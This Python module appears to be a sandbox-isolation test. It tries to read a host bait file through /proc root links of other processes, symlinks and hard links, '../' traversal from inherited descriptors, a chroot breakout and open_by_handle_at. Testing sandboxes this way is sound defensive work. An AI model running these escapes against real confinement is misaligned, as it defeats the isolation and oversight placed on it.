"""Read a file of the host that is open to every user."""

import ctypes
import os
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from gateway.shadow.sandbox.attacks.ways import Ways


def attack(ways: "Ways") -> None:
    """What it reads is searched for the secret by the host."""
    by_its_path(ways, ways.bait["file"])
    by_links(ways, ways.bait["file"])
    past_the_root(ways, ways.bait["file"])


def by_its_path(ways: "Ways", path: str) -> None:
    @ways.look
    def open_it() -> object:
        return content(path)

    @ways.look
    def through_own_root() -> object:
        return content("/proc/self/root" + path)

    @ways.look
    def through_the_root_of_others() -> object:
        refused: OSError | None = None
        for pid in (1, os.getppid(), ways.bait["victim"], ways.bait["host"]):
            for door in ("root", "cwd"):
                try:
                    return content(f"/proc/{pid}/{door}{path if door == 'root' else ''}")
                except OSError as error:
                    refused = error
        raise refused or OSError("none tried")


def by_links(ways: "Ways", path: str) -> None:
    @ways.look
    def link_to_it() -> object:
        os.symlink(path, "link-to-it")
        return content("link-to-it")

    @ways.look
    def hard_link_to_it() -> object:
        os.link(path, "hard-link-to-it")
        return content("hard-link-to-it")


def past_the_root(ways: "Ways", path: str) -> None:
    @ways.look
    def up_from_here() -> object:
        return content("../" * 30 + path.lstrip("/"))

    @ways.look
    def up_from_each_descriptor() -> object:
        for descriptor in range(3, 64):
            try:
                found = os.open("../" * 30 + path.lstrip("/"), os.O_RDONLY, dir_fd=descriptor)
            except OSError:
                continue
            return os.read(found, 4096).decode()
        return None

    @ways.look
    def out_of_a_new_root() -> object:
        os.mkdir("new-root")
        os.chroot("new-root")
        os.chdir("../" * 30)
        os.chroot(".")
        return content(path)

    @ways.look
    def by_its_handle() -> object:
        # A handle is a guess at an inode: 8 bytes of type and length, then inode and generation.
        mount = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        handle = ctypes.create_string_buffer(8 + 128)
        ctypes.memmove(handle, (ctypes.c_uint * 4)(8, 1, ways.bait["inode"], 0), 16)
        return os.read(ways.syscall("open_by_handle_at", mount, handle, os.O_RDONLY), 4096)


def content(path: str) -> str:
    """At most 4,096 bytes of it."""
    with open(path, "rb") as file:
        return file.read(4096).decode(errors="replace")
